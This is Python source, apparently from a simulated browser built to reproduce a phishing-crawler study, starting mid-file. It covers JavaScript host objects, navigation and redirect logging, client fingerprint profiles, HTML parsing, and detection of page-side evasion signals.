        obj.set("focus", native(lambda _i, _t, _a: UNDEFINED, "focus"))
        obj.set("remove", native(lambda _i, _t, _a: UNDEFINED, "remove"))
        return obj

    session.make_element = _element_object

    # Elements with ids from the parsed markup.
    for dom_element in session.parsed.elements:
        if dom_element.element_id:
            element = _element_object(dom_element.tag, dom_element.element_id, dom_element.text)
            session.elements[dom_element.element_id] = element

    def _get_element_by_id(_i, _t, args):
        element_id = to_js_string(args[0]) if args else ""
        return session.elements.get(element_id)

    def _query_selector(_i, _t, args):
        selector = to_js_string(args[0]) if args else ""
        if selector.startswith("#"):
            return session.elements.get(selector[1:])
        for element in session.elements.values():
            if to_js_string(element.get("tagName")).lower() == selector.lower():
                return element
        return None

    def _create_element(_i, _t, args):
        tag = to_js_string(args[0]) if args else "div"
        return _element_object(tag)

    def _doc_add_listener(_i, _t, args):
        if len(args) >= 2:
            session.listeners.append((document, to_js_string(args[0]), args[1]))
        return UNDEFINED

    def _doc_write(_i, _t, args):
        session.document_writes.append(to_js_string(args[0]) if args else "")
        return UNDEFINED

    body = _element_object("body", "body", session.parsed.text)
    head = _element_object("head", "head")
    document_element = _element_object("html", "documentElement")
    document.properties.update(
        {
            "title": session.parsed.title,
            "referrer": session.referrer,
            "cookie": session.browser.cookie_header(session.url.host),
            "hidden": False,
            "visibilityState": "visible",
            "body": body,
            "head": head,
            "documentElement": document_element,
            "getElementById": native(_get_element_by_id, "getElementById"),
            "querySelector": native(_query_selector, "querySelector"),
            "createElement": native(_create_element, "createElement"),
            "addEventListener": native(_doc_add_listener, "addEventListener"),
            "write": native(_doc_write, "write"),
            "forms": JSArray([]),
            "readyState": "complete",
        }
    )

    declare("document", document)

    # ------------------------------------------------------------------
    # window
    # ------------------------------------------------------------------
    window = JSObject(
        {
            "location": location,
            "navigator": navigator,
            "screen": screen,
            "document": document,
            "innerWidth": float(profile.screen_width),
            "innerHeight": float(profile.screen_height - 120),
            # Headless Chrome reports zero outer dimensions — a classic check.
            "outerWidth": 0.0 if profile.headless else float(profile.screen_width),
            "outerHeight": 0.0 if profile.headless else float(profile.screen_height),
            "self": UNDEFINED,
            "top": UNDEFINED,
        }
    )
    if profile.has_chrome_object:
        window.set("chrome", JSObject({"runtime": JSObject()}))

    def _window_add_listener(_i, _t, args):
        if len(args) >= 2:
            session.listeners.append((window, to_js_string(args[0]), args[1]))
        return UNDEFINED

    window.set("addEventListener", native(_window_add_listener, "addEventListener"))
    window.set(
        "open",
        native(
            lambda _i, _t, args: session.popups.append(to_js_string(args[0]) if args else "") or UNDEFINED,
            "open",
        ),
    )
    storage: dict[str, str] = session.browser.local_storage.setdefault(session.url.host, {})
    local_storage = JSObject(
        {
            "getItem": native(
                lambda _i, _t, args: storage.get(to_js_string(args[0]), None) if args else None,
                "getItem",
            ),
            "setItem": native(
                lambda _i, _t, args: storage.__setitem__(to_js_string(args[0]), to_js_string(args[1]))
                or UNDEFINED
                if len(args) >= 2
                else UNDEFINED,
                "setItem",
            ),
            "removeItem": native(
                lambda _i, _t, args: storage.pop(to_js_string(args[0]), None) and UNDEFINED if args else UNDEFINED,
                "removeItem",
            ),
        }
    )
    window.set("localStorage", local_storage)
    declare("localStorage", local_storage)
    session.window = window
    declare("window", window)

    # The CDP Runtime.enable leak: stacks that drive the browser through
    # the DevTools protocol without hiding it leave a detectable artifact.
    if profile.cdp_runtime_leak:
        declare("__cdp_runtime_binding", JSObject({"enabled": True}))

    # ------------------------------------------------------------------
    # XMLHttpRequest / fetch
    # ------------------------------------------------------------------
    def _xhr_constructor(_interp, _t, _a):
        xhr = JSObject(
            {
                "readyState": 0.0,
                "status": 0.0,
                "responseText": "",
                "onload": UNDEFINED,
                "onerror": UNDEFINED,
                "onreadystatechange": UNDEFINED,
                "_method": "GET",
                "_url": "",
                "_headers": JSObject(),
            }
        )

        def _open(_i, this, args):
            this.set("_method", to_js_string(args[0]) if args else "GET")
            this.set("_url", to_js_string(args[1]) if len(args) > 1 else "")
            this.set("readyState", 1.0)
            return UNDEFINED

        def _set_header(_i, this, args):
            if len(args) >= 2:
                headers = this.get("_headers")
                if isinstance(headers, JSObject):
                    headers.set(to_js_string(args[0]), to_js_string(args[1]))
            return UNDEFINED

        def _send(_interp2, this, args):
            body = to_js_string(args[0]) if args and args[0] is not UNDEFINED else ""
            header_obj = this.get("_headers")
            headers = (
                {k: to_js_string(v) for k, v in header_obj.properties.items()}
                if isinstance(header_obj, JSObject)
                else {}
            )
            result = session.ajax(
                to_js_string(this.get("_method")), to_js_string(this.get("_url")), headers, body
            )
            if result is None:
                this.set("status", 0.0)
                this.set("readyState", 4.0)
                callback = this.get("onerror")
                if callback is not UNDEFINED:
                    _interp2.call_function(callback, this, [])
                return UNDEFINED
            this.set("status", float(result.status))
            this.set("responseText", result.body)
            this.set("readyState", 4.0)
            for hook in ("onreadystatechange", "onload"):
                callback = this.get(hook)
                if callback is not UNDEFINED:
                    _interp2.call_function(callback, this, [])
            return UNDEFINED

        xhr.set("open", native(_open, "open"))
        xhr.set("setRequestHeader", native(_set_header, "setRequestHeader"))
        xhr.set("send", native(_send, "send"))
        return xhr

    declare("XMLHttpRequest", native(_xhr_constructor, "XMLHttpRequest"))

    def _thenable(value: object) -> JSObject:
        holder = JSObject({"_value": value, "_thenable": True})

        def _then(_interp2, this, args):
            result = value
            if args:
                result = _interp2.call_function(args[0], UNDEFINED, [value])
            # Flatten chained thenables, like real promise resolution.
            if isinstance(result, JSObject) and result.has("_thenable"):
                result = result.get("_value")
            return _thenable(result)

        holder.set("then", native(_then, "then"))
        holder.set("catch", native(lambda _i, _t, _a: _thenable(value), "catch"))
        return holder

    def _fetch(_interp2, _t, args):
        raw_url = to_js_string(args[0]) if args else ""
        options = args[1] if len(args) > 1 and isinstance(args[1], JSObject) else JSObject()
        method = to_js_string(options.get("method")) if options.has("method") else "GET"
        body = to_js_string(options.get("body")) if options.has("body") else ""
        headers_obj = options.get("headers")
        headers = (
            {k: to_js_string(v) for k, v in headers_obj.properties.items()}
            if isinstance(headers_obj, JSObject)
            else {}
        )
        result = session.ajax(method, raw_url, headers, body)
        if result is None:
            response = JSObject({"ok": False, "status": 0.0})
            response.set("text", native(lambda _i, _t, _a: _thenable(""), "text"))
            response.set("json", native(lambda _i, _t, _a: _thenable(None), "json"))
            return _thenable(response)
        text = result.body
        response = JSObject({"ok": 200 <= result.status < 300, "status": float(result.status)})
        response.set("text", native(lambda _i, _t, _a: _thenable(text), "text"))

        def _json(_i, _t, _a):
            try:
                return _thenable(python_to_js(json.loads(text)))
            except (json.JSONDecodeError, ValueError):
                return _thenable(None)

        response.set("json", native(_json, "json"))
        return _thenable(response)

    declare("fetch", native(_fetch, "fetch"))
