"""The browser: navigation, redirects, cookies, and visit results.

``Browser.visit`` is what both victims and crawlers do: resolve the URL
over the network fabric, follow server redirects, load the document in a
:class:`~repro.browser.session.PageSession`, honour script/meta
navigation, and log every request, certificate, and screenshot along the
way — the "thoroughly logged" crawling phase of Section IV-C.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.browser.profile import BrowserProfile
from repro.browser.session import PageSession
from repro.web.dns import NxDomainError
from repro.web.faults import FaultError
from repro.web.http import Headers, HttpRequest, HttpResponse
from repro.web.network import ConnectionFailed, Network, TLSValidationError
from repro.web.urls import ParsedUrl, UrlError, parse_url


class VisitOutcome:
    """Terminal states of a visit (string constants, not an enum, so the
    analysis layer can store them directly in records)."""

    OK = "ok"
    NXDOMAIN = "nxdomain"
    CONNECTION_FAILED = "connection_failed"
    TLS_ERROR = "tls_error"
    HTTP_ERROR = "http_error"
    BAD_URL = "bad_url"
    REDIRECT_LOOP = "redirect_loop"
    #: The resilient crawl path gave up on the URL without ever getting
    #: data (circuit breaker open); never produced by Browser itself.
    UNREACHABLE = "unreachable"


@dataclass
class RequestRecord:
    """One logged browser request."""

    url: str
    kind: str  # 'document' | 'script' | 'resource' | 'ajax'
    method: str = "GET"
    referrer: str = ""
    status: int | None = None
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class VisitResult:
    """Everything CrawlerBox logs about one crawl."""

    start_url: str
    outcome: str = VisitOutcome.OK
    error: str = ""
    url_chain: list[str] = field(default_factory=list)
    responses: list[HttpResponse] = field(default_factory=list)
    requests: list[RequestRecord] = field(default_factory=list)
    sessions: list[PageSession] = field(default_factory=list)
    certificates: list = field(default_factory=list)
    server_ips: dict[str, str] = field(default_factory=dict)
    #: Injected fault kinds observed during the visit (document fetches,
    #: redirects, and sub-resource requests alike), in event order.
    fault_kinds: list[str] = field(default_factory=list)

    @property
    def final_url(self) -> str:
        return self.url_chain[-1] if self.url_chain else self.start_url

    @property
    def final_session(self) -> PageSession | None:
        return self.sessions[-1] if self.sessions else None

    @property
    def final_response(self) -> HttpResponse | None:
        return self.responses[-1] if self.responses else None

    def screenshot(self):
        session = self.final_session
        return session.screenshot() if session is not None else None


class Browser:
    """A scriptable client over the network fabric."""

    def __init__(
        self,
        network: Network,
        profile: BrowserProfile | None = None,
        rng: random.Random | None = None,
        timestamp: float = 0.0,
    ):
        self.network = network
        self.profile = profile or BrowserProfile()
        self.rng = rng or random.Random(0)
        self.timestamp = timestamp
        #: cookie jar: host -> {name: value}
        self.cookies: dict[str, dict[str, str]] = {}
        self.local_storage: dict[str, dict[str, str]] = {}
        self._active_result: VisitResult | None = None
        #: Retry ordinal stamped onto every request this browser issues
        #: (set by the resilient crawl path; 0 = first delivery).
        self.fault_attempt = 0

    # ------------------------------------------------------------------
    # Headers and cookies
    # ------------------------------------------------------------------
    def build_headers(self, url: ParsedUrl, referrer: str = "", kind: str = "document") -> Headers:
        headers = Headers()
        headers.set("User-Agent", self.profile.user_agent)
        headers.set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
        if self.profile.languages:
            headers.set("Accept-Language", ",".join(self.profile.languages))
        if referrer:
            headers.set("Referer", referrer)
        cookie = self.cookie_header(url.host)
        if cookie:
            headers.set("Cookie", cookie)
        if self.profile.interception_cache_quirk:
            # The Puppeteer request-interception artifact the paper found:
            # with interception enabled, requests carry cache-busting
            # headers a human-driven Chrome would not send.
            headers.set("Cache-Control", "no-cache")
            headers.set("Pragma", "no-cache")
        return headers

    def cookie_header(self, host: str) -> str:
        jar = self.cookies.get(host.lower(), {})
        return "; ".join(f"{name}={value}" for name, value in jar.items())

    def set_cookie(self, host: str, name: str, value: str) -> None:
        if self.profile.cookies_enabled:
            self.cookies.setdefault(host.lower(), {})[name] = value

    def _absorb_cookies(self, host: str, response: HttpResponse) -> None:
        header = response.headers.get("Set-Cookie")
        if not header:
            return
        first = header.split(";", 1)[0]
        if "=" in first:
            name, value = first.split("=", 1)
            self.set_cookie(host, name.strip(), value.strip())

    # ------------------------------------------------------------------
    # Raw fetching
    # ------------------------------------------------------------------
    def _raw_fetch(
        self,
        url: ParsedUrl,
        referrer: str = "",
        kind: str = "document",
        method: str = "GET",
        extra_headers: dict[str, str] | None = None,
        body: str = "",
    ) -> HttpResponse:
        headers = self.build_headers(url, referrer, kind)
        for name, value in (extra_headers or {}).items():
            headers.set(name, value)
        request = HttpRequest(
            method=method,
            url=url,
            headers=headers,
            body=body,
            client_ip=self.profile.ip,
            timestamp=self.timestamp,
            fault_attempt=self.fault_attempt,
        )
        response = self.network.request(request, self.profile.client_context())
        self._absorb_cookies(url.host, response)
        return response

    def _note_fault(self, source) -> None:
        """Record an injected fault's kind on the active/visit result.

        ``source`` is either a caught exception or a shaped response;
        genuine network errors (no :class:`FaultError` lineage, no
        ``fault_kind`` attribute) record nothing.
        """
        if isinstance(source, FaultError):
            kind = source.kind
        else:
            kind = getattr(source, "fault_kind", "")
        if kind and self._active_result is not None:
            self._active_result.fault_kinds.append(kind)

    def subrequest(
        self,
        method: str,
        url: ParsedUrl,
        referrer: str = "",
        kind: str = "resource",
        extra_headers: dict[str, str] | None = None,
        body: str = "",
    ) -> HttpResponse | None:
        """A sub-resource/AJAX request made on behalf of a loaded page."""
        record = RequestRecord(url=url.raw, kind=kind, method=method, referrer=referrer)
        if self._active_result is not None:
            self._active_result.requests.append(record)
        try:
            response = self._raw_fetch(url, referrer, kind, method, extra_headers, body)
        except (NxDomainError, ConnectionFailed, TLSValidationError) as exc:
            self._note_fault(exc)
            record.status = None
            return None
        self._note_fault(response)
        record.status = response.status
        record.headers = dict(self.build_headers(url, referrer, kind).items())
        return response

    # ------------------------------------------------------------------
    # Visiting
    # ------------------------------------------------------------------
    def visit(
        self,
        raw_url: str,
        max_redirects: int = 10,
        max_navigations: int = 5,
        timer_rounds: int = 3,
    ) -> VisitResult:
        """Navigate to a URL, following redirects and script navigation."""
        result = VisitResult(start_url=raw_url)
        self._active_result = result
        try:
            self._navigate(result, raw_url, "", max_redirects, max_navigations, timer_rounds)
        finally:
            self._active_result = None
        return result

    def _navigate(
        self,
        result: VisitResult,
        raw_url: str,
        referrer: str,
        redirects_left: int,
        navigations_left: int,
        timer_rounds: int,
    ) -> None:
        try:
            url = parse_url(raw_url)
        except UrlError as exc:
            result.outcome = VisitOutcome.BAD_URL
            result.error = str(exc)
            return
        if redirects_left <= 0:
            result.outcome = VisitOutcome.REDIRECT_LOOP
            result.error = "too many redirects"
            return

        record = RequestRecord(url=url.raw, kind="document", referrer=referrer)
        result.requests.append(record)
        try:
            response = self._raw_fetch(url, referrer, "document")
        except NxDomainError as exc:
            self._note_fault(exc)
            result.outcome = VisitOutcome.NXDOMAIN
            result.error = f"NXDOMAIN: {exc}"
            return
        except ConnectionFailed as exc:
            self._note_fault(exc)
            result.outcome = VisitOutcome.CONNECTION_FAILED
            result.error = str(exc)
            return
        except TLSValidationError as exc:
            self._note_fault(exc)
            result.outcome = VisitOutcome.TLS_ERROR
            result.error = str(exc)
            return

        self._note_fault(response)
        record.status = response.status
        result.url_chain.append(url.raw)
        result.responses.append(response)
        site = self.network.website(url.host)
        if site is not None:
            result.server_ips[url.host] = site.ip
            if site.certificate is not None:
                result.certificates.append(site.certificate)

        if response.is_redirect and response.location:
            target = response.location
            if not target.startswith("http"):
                target = f"{url.origin}{target}"
            self._navigate(result, target, url.raw, redirects_left - 1, navigations_left, timer_rounds)
            return

        if response.status >= 400:
            result.outcome = VisitOutcome.HTTP_ERROR
            result.error = f"HTTP {response.status}"
            # Error pages are still parsed/screenshotted by the pipeline.
        else:
            # Each successful document load supersedes earlier errors in the
            # chain (e.g. a 403 challenge interstitial that later cleared).
            result.outcome = VisitOutcome.OK
            result.error = ""

        session = PageSession(self, url, response, referrer)
        result.sessions.append(session)
        session.run(timer_rounds=timer_rounds)

        target = session.navigation_target
        if target and navigations_left > 0:
            resolved = session.resolve_url(target)
            if resolved is not None:
                self._navigate(
                    result,
                    resolved.raw,
                    url.raw,
                    redirects_left,
                    navigations_left - 1,
                    timer_rounds,
                )
        elif session.reload_requested and navigations_left > 0:
            # location.reload(): same URL, now with any cookies acquired
            # during the challenge (e.g. a Turnstile clearance).
            self._navigate(
                result, url.raw, referrer, redirects_left, navigations_left - 1, timer_rounds
            )

    # ------------------------------------------------------------------
    def load_local_html(self, html: str, timer_rounds: int = 3) -> PageSession:
        """Load an HTML attachment locally (file URI semantics).

        Used for the HTML-attachment messages of Section V-B: the file
        opens in the browser without any hosting domain; scripts inside
        may still call out to the network or redirect.
        """
        url = parse_url("http://local.attachment.invalid/index.html")
        response = HttpResponse(status=200, body=html)
        session = PageSession(self, url, response, referrer="")
        session.run(timer_rounds=timer_rounds)
        return session
