"""Browser substrate: the client side of the simulated web.

Everything a bot-detection service can observe about a visitor lives in
a :class:`~repro.browser.profile.BrowserProfile`: the JavaScript-visible
environment (``navigator.webdriver``, user agent, plugins, screen,
timezone), behavioural signals (trusted mouse events), network identity
(IP type, TLS stack fingerprint), and instrumentation artifacts (CDP
``Runtime.enable`` leak, the request-interception cache-header quirk the
paper discovered in Puppeteer).

A :class:`~repro.browser.browser.Browser` drives pages over the
:class:`~repro.web.network.Network`: it follows redirects, keeps
cookies, executes each page's inline scripts with the PhishScript
interpreter (wired to real host objects in
:mod:`~repro.browser.hosts`), dispatches synthetic events, services
timers, honours script navigation, and takes screenshots via
:mod:`~repro.browser.render`.
"""

from repro.browser.profile import BrowserProfile
from repro.browser.browser import Browser, VisitOutcome, VisitResult
from repro.browser.render import render_visual

__all__ = ["BrowserProfile", "Browser", "VisitResult", "VisitOutcome", "render_visual"]
