"""Browser profiles: the complete fingerprint surface of a client.

Section IV-C/IV-D of the paper enumerates exactly which attributes the
anti-bot services inspect and which ones NotABot scrubs: the
``navigator.webdriver`` flag (the ``AutomationControlled`` switch),
headless indicators, CDP instrumentation artifacts, the
request-interception caching quirk (``Cache-Control``/``Pragma``
headers), untrusted synthetic events, datacenter IPs, and VM timing
side channels.  Each is one field here.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.web.context import (
    ClientContext,
    IP_DATACENTER,
    IP_MOBILE,
    IP_RESIDENTIAL,
)

CHROME_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
HEADLESS_CHROME_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36"
)
MOBILE_SAFARI_UA = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"
)


@dataclass(frozen=True)
class BrowserProfile:
    """Everything observable about one browser client."""

    name: str = "human-chrome"
    user_agent: str = CHROME_UA
    headless: bool = False
    #: Value of navigator.webdriver (True on default automation stacks).
    webdriver_flag: bool = False
    #: Chrome DevTools Protocol Runtime.enable artifacts observable in-page.
    cdp_runtime_leak: bool = False
    #: Puppeteer request interception left enabled -> cache-header quirk.
    interception_cache_quirk: bool = False
    #: Synthetic input events carry isTrusted == True (CDP-native input).
    trusted_events: bool = True
    #: Whether the client generates any mouse movement at all.
    generates_mouse_movement: bool = True
    plugins_count: int = 3
    languages: tuple[str, ...] = ("en-US", "en")
    timezone: str = "Europe/Paris"
    screen_width: int = 1920
    screen_height: int = 1080
    color_depth: int = 24
    cookies_enabled: bool = True
    #: window.chrome object present (real Chrome exposes it).
    has_chrome_object: bool = True
    #: Running inside a VM quantises fine-grained timers (timing red pill).
    vm_timing_quantization: bool = False
    #: Client network identity.
    ip: str = "93.184.0.10"
    ip_type: str = IP_RESIDENTIAL
    country: str = "FR"
    asn: str = "AS3215"
    network_name: str = "Orange"
    tls_fingerprint: str = "chrome"
    known_scanner_ip: bool = False

    # ------------------------------------------------------------------
    def client_context(self) -> ClientContext:
        """The network-level view servers get of this client."""
        return ClientContext(
            ip=self.ip,
            ip_type=self.ip_type,
            country=self.country,
            asn=self.asn,
            network_name=self.network_name,
            tls_fingerprint=self.tls_fingerprint,
            known_scanner=self.known_scanner_ip,
        )

    @property
    def is_mobile(self) -> bool:
        return "Mobile" in self.user_agent or "iPhone" in self.user_agent

    def derive(self, **changes) -> "BrowserProfile":
        """A copy of this profile with the given fields replaced."""
        return replace(self, **changes)


def human_chrome_profile(ip: str = "93.184.0.10") -> BrowserProfile:
    """A real person on desktop Chrome over a residential connection."""
    return BrowserProfile(name="human-chrome", ip=ip)


def mobile_phone_profile(ip: str = "100.70.0.22") -> BrowserProfile:
    """A personal smartphone on a mobile data plan (the QR-code path).

    Access from this profile "will typically fall outside the perimeter
    of the corporate security defenses" — it is how quishing victims
    reach mobile-only phishing pages.
    """
    return BrowserProfile(
        name="mobile-safari",
        user_agent=MOBILE_SAFARI_UA,
        plugins_count=0,
        screen_width=390,
        screen_height=844,
        timezone="Europe/Paris",
        ip=ip,
        ip_type=IP_MOBILE,
        asn="AS20810",
        network_name="SFR Mobile",
        tls_fingerprint="safari-ios",
    )


def datacenter_scanner_profile(ip: str = "52.20.0.5") -> BrowserProfile:
    """A naive security scanner: headless Chrome in the cloud."""
    return BrowserProfile(
        name="naive-scanner",
        user_agent=HEADLESS_CHROME_UA,
        headless=True,
        webdriver_flag=True,
        cdp_runtime_leak=True,
        trusted_events=False,
        generates_mouse_movement=False,
        plugins_count=0,
        has_chrome_object=False,
        vm_timing_quantization=True,
        ip=ip,
        ip_type=IP_DATACENTER,
        asn="AS14618",
        network_name="Amazon AWS",
        tls_fingerprint="python-requests",
        known_scanner_ip=True,
    )
