"""HTML parsing into a light DOM structure.

CrawlerBox both *crawls* remote pages and *loads local HTML attachments*
(Section V-B: HTML files "loaded locally without changing the window's
URL").  Either way the browser needs the document's inline scripts,
referenced resources, forms, and identified elements — this module
extracts them with a stdlib ``HTMLParser``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser


@dataclass
class DomElement:
    """An element captured from markup (tag, attributes, text)."""

    tag: str
    attrs: dict[str, str] = field(default_factory=dict)
    text: str = ""

    @property
    def element_id(self) -> str | None:
        return self.attrs.get("id")


@dataclass
class FormInfo:
    action: str = ""
    method: str = "GET"
    inputs: list[dict[str, str]] = field(default_factory=list)

    @property
    def has_password_field(self) -> bool:
        return any(item.get("type", "").lower() == "password" for item in self.inputs)


@dataclass
class ParsedDocument:
    """The statically-extractable structure of one HTML document."""

    title: str = ""
    inline_scripts: list[str] = field(default_factory=list)
    external_scripts: list[str] = field(default_factory=list)
    resource_urls: list[str] = field(default_factory=list)  # img src, link href
    anchors: list[str] = field(default_factory=list)  # a href
    forms: list[FormInfo] = field(default_factory=list)
    elements: list[DomElement] = field(default_factory=list)
    text: str = ""

    def element_by_id(self, element_id: str) -> DomElement | None:
        for element in self.elements:
            if element.element_id == element_id:
                return element
        return None


class _DomBuilder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.document = ParsedDocument()
        self._in_script = False
        self._in_title = False
        self._script_chunks: list[str] = []
        self._text_chunks: list[str] = []
        self._current_form: FormInfo | None = None
        self._element_stack: list[DomElement] = []

    def handle_starttag(self, tag: str, attrs_list) -> None:
        attrs = {name: (value or "") for name, value in attrs_list}
        tag = tag.lower()
        element = DomElement(tag=tag, attrs=attrs)
        self.document.elements.append(element)
        self._element_stack.append(element)

        if tag == "script":
            src = attrs.get("src")
            if src:
                self.document.external_scripts.append(src)
            else:
                self._in_script = True
                self._script_chunks = []
        elif tag == "title":
            self._in_title = True
        elif tag == "img" and attrs.get("src"):
            self.document.resource_urls.append(attrs["src"])
        elif tag == "link" and attrs.get("href"):
            self.document.resource_urls.append(attrs["href"])
        elif tag == "a" and attrs.get("href"):
            self.document.anchors.append(attrs["href"])
        elif tag == "iframe" and attrs.get("src"):
            self.document.resource_urls.append(attrs["src"])
        elif tag == "form":
            self._current_form = FormInfo(
                action=attrs.get("action", ""), method=attrs.get("method", "GET").upper()
            )
            self.document.forms.append(self._current_form)
        elif tag == "input" and self._current_form is not None:
            self._current_form.inputs.append(attrs)

    def handle_endtag(self, tag: str) -> None:
        tag = tag.lower()
        if tag == "script" and self._in_script:
            self._in_script = False
            self.document.inline_scripts.append("".join(self._script_chunks))
        elif tag == "title":
            self._in_title = False
        elif tag == "form":
            self._current_form = None
        while self._element_stack and self._element_stack[-1].tag != tag:
            self._element_stack.pop()
        if self._element_stack:
            self._element_stack.pop()

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self._script_chunks.append(data)
            return
        if self._in_title:
            self.document.title += data
            return
        stripped = data.strip()
        if stripped:
            self._text_chunks.append(stripped)
            if self._element_stack:
                self._element_stack[-1].text += stripped


def parse_html(html: str) -> ParsedDocument:
    """Parse markup into a :class:`ParsedDocument`."""
    builder = _DomBuilder()
    builder.feed(html)
    builder.close()
    builder.document.text = " ".join(builder._text_chunks)
    return builder.document
