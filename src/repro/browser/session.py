"""A loaded page: script execution, events, timers, screenshots.

``PageSession`` is where dynamic analysis happens.  Inline and external
scripts run in the PhishScript interpreter against the host objects of
:mod:`repro.browser.hosts`; the session then dispatches lifecycle and
synthetic input events (with ``isTrusted`` determined by the browser
profile), services timers (so ``setInterval`` anti-debug loops and
delayed reveals actually run), and finally reports navigation intents,
AJAX traffic, fingerprint-probe reads, and a rasterised screenshot.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable

from repro.browser.dom import parse_html
from repro.browser.hosts import install_browser_hosts
from repro.browser.render import render_visual
from repro.imaging.image import Image
from repro.imaging.render import render_lines
from repro.js.interp import Interpreter, JSError, JSObject, UNDEFINED, NativeFunction, to_js_string
from repro.web.http import HttpResponse
from repro.web.urls import ParsedUrl, UrlError, parse_url

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.browser.browser import Browser

_HUE_ROTATE_RE = re.compile(r"hue-rotate\(\s*(-?\d+(?:\.\d+)?)deg\s*\)")
_META_REFRESH_RE = re.compile(r"^\s*\d+\s*;\s*url\s*=\s*(.+)$", re.IGNORECASE)


@dataclass
class AjaxCall:
    method: str
    url: str
    headers: dict[str, str]
    body: str
    status: int | None  # None = network failure


@dataclass
class SessionSignals:
    """Client-side evasion behaviours observed while the page ran."""

    console_hijacked: bool = False
    debugger_hits: int = 0
    uses_debugger_timer: bool = False
    context_menu_blocked: bool = False
    devtools_keys_blocked: bool = False
    hue_rotation_deg: float = 0.0
    navigator_reads: tuple[str, ...] = ()
    intl_timezone_read: bool = False
    screen_reads: tuple[str, ...] = ()
    script_errors: tuple[str, ...] = ()
    popups: tuple[str, ...] = ()

    @classmethod
    def merge(cls, signals: list["SessionSignals"]) -> "SessionSignals | None":
        """Union the signals observed across a navigation chain.

        Booleans OR, counters and sequences accumulate in chain order,
        and ``hue_rotation_deg`` keeps the *maximum* observed rotation —
        the strongest color-distortion cloak in the chain, not whichever
        page happened to apply one first.
        """
        if not signals:
            return None
        if len(signals) == 1:
            return signals[0]
        return cls(
            console_hijacked=any(s.console_hijacked for s in signals),
            debugger_hits=sum(s.debugger_hits for s in signals),
            uses_debugger_timer=any(s.uses_debugger_timer for s in signals),
            context_menu_blocked=any(s.context_menu_blocked for s in signals),
            devtools_keys_blocked=any(s.devtools_keys_blocked for s in signals),
            hue_rotation_deg=max(s.hue_rotation_deg for s in signals),
            navigator_reads=tuple(
                read for s in signals for read in s.navigator_reads
            ),
            intl_timezone_read=any(s.intl_timezone_read for s in signals),
            screen_reads=tuple(read for s in signals for read in s.screen_reads),
            script_errors=tuple(err for s in signals for err in s.script_errors),
            popups=tuple(p for s in signals for p in s.popups),
        )


class PageSession:
    """One document loaded in the browser."""

    def __init__(
        self,
        browser: "Browser",
        url: ParsedUrl,
        response: HttpResponse,
        referrer: str = "",
    ):
        self.browser = browser
        self.url = url
        self.response = response
        self.referrer = referrer
        self.parsed = parse_html(response.body or "")

        # Populated by install_browser_hosts.
        self.navigator = None
        self.screen = None
        self.document = None
        self.window = None
        self.location = None
        self.make_element: Callable | None = None

        self.elements: dict[str, JSObject] = {}
        self.listeners: list[tuple[JSObject, str, object]] = []
        self.popups: list[str] = []
        self.appended_nodes: list[object] = []
        self.document_writes: list[str] = []
        self.intl_reads: list[str] = []
        self.ajax_log: list[AjaxCall] = []
        self.script_errors: list[str] = []
        self.executed_scripts: list[str] = []
        self.debugger_hits = 0
        self.reload_requested = False
        self._debugger_in_timer = False
        self._in_timer_callback = False

        self.interp = Interpreter(rng=random.Random(browser.rng.getrandbits(32)))
        self.interp.on_debugger = self._on_debugger
        install_browser_hosts(self.interp, self)
        self._original_console = {
            level: self.interp.globals.lookup("console").get(level)
            for level in ("log", "warn", "error", "info", "debug")
        }

    # ------------------------------------------------------------------
    def _on_debugger(self) -> None:
        self.debugger_hits += 1
        if self._in_timer_callback:
            self._debugger_in_timer = True

    def run(self, timer_rounds: int = 3, mouse_events: int = 5) -> None:
        """Execute the page: resources, scripts, events, timers."""
        self._fetch_static_resources()
        for script in self.parsed.inline_scripts:
            self._run_script(script)
        for src in self.parsed.external_scripts:
            body = self._fetch_script(src)
            if body is not None:
                self._run_script(body)
        self.dispatch_event(self.document, "DOMContentLoaded")
        self.dispatch_event(self.window, "load")
        self._simulate_input(mouse_events)
        for _ in range(timer_rounds):
            self._in_timer_callback = True
            try:
                self.interp.run_due_timers()
            finally:
                self._in_timer_callback = False

    def _run_script(self, source: str) -> None:
        source = source.strip()
        if not source:
            return
        self.executed_scripts.append(source)
        try:
            self.interp.run(source)
        except JSError as exc:
            self.script_errors.append(str(exc))
        except SyntaxError as exc:
            self.script_errors.append(f"SyntaxError: {exc}")

    def _fetch_static_resources(self) -> None:
        """Fetch images/stylesheets so referral logs see resource loads.

        Section V-A: 29.8 % of spear-phishing pages loaded the logo and
        background from the impersonated organisation's own domain —
        detectable by that organisation through referral monitoring.
        """
        for raw in self.parsed.resource_urls:
            absolute = self.resolve_url(raw)
            if absolute is not None:
                self.browser.subrequest(
                    "GET", absolute, referrer=self.url.raw, kind="resource"
                )

    def _fetch_script(self, src: str) -> str | None:
        absolute = self.resolve_url(src)
        if absolute is None:
            return None
        response = self.browser.subrequest("GET", absolute, referrer=self.url.raw, kind="script")
        if response is None or response.status != 200:
            return None
        return response.body

    def _simulate_input(self, mouse_events: int) -> None:
        profile = self.browser.profile
        if not profile.generates_mouse_movement:
            return
        trusted = profile.trusted_events
        rng = self.browser.rng
        for _ in range(mouse_events):
            self.dispatch_event(
                self.document,
                "mousemove",
                {
                    "clientX": float(rng.randrange(0, profile.screen_width)),
                    "clientY": float(rng.randrange(0, profile.screen_height)),
                },
                trusted=trusted,
            )
        self.dispatch_event(self.document, "mousedown", trusted=trusted)
        self.dispatch_event(self.document, "mouseup", trusted=trusted)

    # ------------------------------------------------------------------
    def dispatch_event(
        self,
        target: JSObject | None,
        event_type: str,
